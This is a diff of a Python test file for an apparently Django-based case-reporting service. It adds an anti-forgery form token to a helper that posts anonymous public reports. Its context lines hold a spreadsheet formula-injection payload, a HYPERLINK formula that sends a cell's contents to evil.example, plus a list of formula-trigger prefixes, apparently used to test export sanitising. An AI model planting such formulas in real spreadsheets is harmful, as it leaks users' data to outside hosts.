@@ -17,6 +17,7 @@ from chuangwen.core import xlsx
 from chuangwen.core.errors import ImportFailed
 from chuangwen.org import services as org
 from tests.cases.conftest import IN_A, CaseCity
+from tests.cases.test_views import form_token
 
 EVIL = '=HYPERLINK("http://evil.example/?c="&A2,"查看照片")'
 TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
@@ -75,9 +76,16 @@ def cc(small_city):
 
 
 def _public_report(cc, text, phone="13912345678"):
-    r = Client().post(
-        reverse("cases:public_report", args=[cc.city.code]),
-        {"description": text, "phone": phone, "lon": IN_A[0], "lat": IN_A[1]},
+    anon, url = Client(), reverse("cases:public_report", args=[cc.city.code])
+    r = anon.post(
+        url,
+        {
+            "description": text,
+            "phone": phone,
+            "lon": IN_A[0],
+            "lat": IN_A[1],
+            "token": form_token(anon, url),
+        },
     )
     assert r.status_code == 302, r.context["form"].errors
 
